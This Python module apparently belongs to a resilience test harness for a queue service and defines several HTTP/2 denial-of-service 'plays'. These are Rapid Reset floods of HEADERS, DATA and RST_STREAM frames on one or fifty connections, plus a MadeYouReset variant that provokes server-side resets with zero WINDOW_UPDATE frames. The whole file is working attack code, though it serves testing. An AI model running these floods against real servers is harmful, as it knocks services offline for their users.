"""Calls that are begun and given up at once: the server's work for them costs the peer nothing."""

import calls
import frames

BATCH = 50
STREAMS_MAX = 400000  # of one connection


def _flood(peer, parts):
    """`parts(stream)` for one stream after the other."""
    peer.begin()
    for first in range(0, STREAMS_MAX, BATCH):
        peer.send(b"".join(parts(2 * i + 1) for i in range(first, first + BATCH)))
        peer.units += BATCH


def _whole_and_reset(body, path=calls.ENQUEUE_PATH):
    block = frames.head(path)

    def parts(stream):
        return (frames.frame(frames.HEADERS, frames.END_HEADERS, stream, block) +
                frames.frame(frames.DATA, frames.END_STREAM, stream, body) + calls.reset(stream))
    return parts


def rapid_reset(target):
    """Enqueue with its body, and a reset."""
    parts = _whole_and_reset(calls.enqueue())
    target.spread(1, lambda peer: _flood(peer, parts))


def rapid_reset_lease(target):
    """Lease that would wait, and a reset."""
    parts = _whole_and_reset(calls.lease("attacker"), calls.LEASE_PATH)
    target.spread(1, lambda peer: _flood(peer, parts))


def rapid_reset_headers(target):
    """Only the headers, and a reset."""
    block = frames.head(calls.ENQUEUE_PATH)

    def parts(stream):
        return (frames.frame(frames.HEADERS, frames.END_HEADERS, stream, block) +
                calls.reset(stream))
    target.spread(1, lambda peer: _flood(peer, parts))


def rapid_reset_50(target):
    """The first, on 50 connections."""
    parts = _whole_and_reset(calls.enqueue())
    target.spread(50, lambda peer: _flood(peer, parts))


def made_reset(target):
    """Streams that the server resets: a window of them that overflows (MadeYouReset)."""
    block = frames.head(calls.ENQUEUE_PATH)

    def parts(stream):
        return (frames.frame(frames.HEADERS, frames.END_HEADERS, stream, block) +
                frames.frame(frames.WINDOW_UPDATE, 0, stream, b"\0\0\0\0"))
    target.spread(1, lambda peer: _flood(peer, parts))


PLAYS = (rapid_reset, rapid_reset_lease, rapid_reset_headers, rapid_reset_50, made_reset)
